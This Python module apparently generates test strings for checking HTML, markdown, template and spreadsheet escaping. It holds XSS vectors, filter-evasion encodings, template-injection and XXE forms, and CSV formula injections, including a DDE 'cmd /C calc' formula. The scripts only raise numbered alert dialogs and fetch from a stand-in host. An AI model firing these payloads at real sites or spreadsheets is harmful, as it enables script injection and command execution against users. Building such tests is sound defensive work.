"""Texts that would do harm where they were taken for markup, script, a link or a formula: contexts, vectors, spellings.

``alert(n)`` in each opens a dialog, so that a browser tells which one ran.
"""

from __future__ import annotations

from itertools import cycle, islice, product

# What would close the place in which a text stands.
ENDS = (
    *("", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "]]>", "</script>", "`"),
    *('" ', "' ", "</template>", "</svg>", "\\", "{{", "?>", "%>", "</mark></q>", "&quot;>"),
)
VECTORS = (
    "<script>{call}</script>",
    "<script src={host}></script>",
    "<img src=x onerror={call}>",
    "<img/src/onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
    "<iframe src=javascript:{call}>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<marquee onstart={call}>",
    "<math><a xlink:href=javascript:{call}>M</a></math>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    "<a href=javascript:{call}>Klick</a>",
    "<form action=javascript:{call}><button autofocus>Klick</button></form>",
    "<base href={host}>",
    "<meta http-equiv=refresh content='0;url={host}'>",
    "<link rel=stylesheet href={host}>",
    "<style>@import '{host}';</style>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
    'onmouseover={call} x="',
    "onfocus={call} autofocus tabindex=0 x='",
    "style=animation-name:x onanimationstart={call} ",
    "javascript:{call}",
    "[Klick](javascript:{call})",
    "![Bild]({host})",
    "[Klick][1]\n[1]: javascript:{call}",
    "<javascript:{call}>",
    "data:text/html,<script>{call}</script>",
    "{{constructor.constructor('{call}')()}}",
    "${{{call}}}",
    "<%= {call} %>",
    "<!--#include virtual='{host}'-->",
    "<?xml-stylesheet href='{host}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{host}'>]>&e;",
)
_HOST = "//payload.invalid/x"


def _entities(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


SPELLINGS = (
    str,
    lambda text: text.replace("<script", "<sCrIpT").replace("javascript:", "JaVaScRiPt:"),
    str,
    _entities,
    lambda text: text.replace("javascript:", "java\tscript:").replace("<script", "<scr<script>ipt"),
    str,
    lambda text: text.replace("<", "&#x3c;").replace(">", "&#62;"),
    lambda text: text.replace("javascript:", "&#106;avascript&colon;").replace("onerror=", "onerror\u00a0="),
    str,
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace(" ", "/").replace("=", "\u2028="),
    str,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: _entities(_entities(text)),
)
FORMULAS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=HYPERLINK(1)", "＝1+1", "＋1", " =1", "=cmd|' /C calc'!A0", "-2+3", "@x"),
    *("\r=1", "\n=1", '"=1', "＠x", "－1", '=WEBSERVICE("//payload.invalid")', ";=1", '";=1', "%3D1", "|=1", "'=1", "\u00a0=1"),
)


def payloads(number: int) -> list[str]:
    """So many, each once: every vector and every spelling early, formulas among them; the same ones in every run."""
    steps = product(range(len(SPELLINGS) * len(ENDS)), range(len(VECTORS)))
    made: dict[str, None] = {}
    formulas = cycle(FORMULAS)
    for turn, at in steps:
        spelling, end = SPELLINGS[(turn + at) % len(SPELLINGS)], ENDS[(turn * 7 + at) % len(ENDS)]
        vector = VECTORS[at].replace("{call}", f"alert({len(made)})").replace("{host}", _HOST)
        made[spelling(end + vector)] = None
        if at % 10 == 9:
            made[next(formulas)] = None
    return list(islice(made, number))
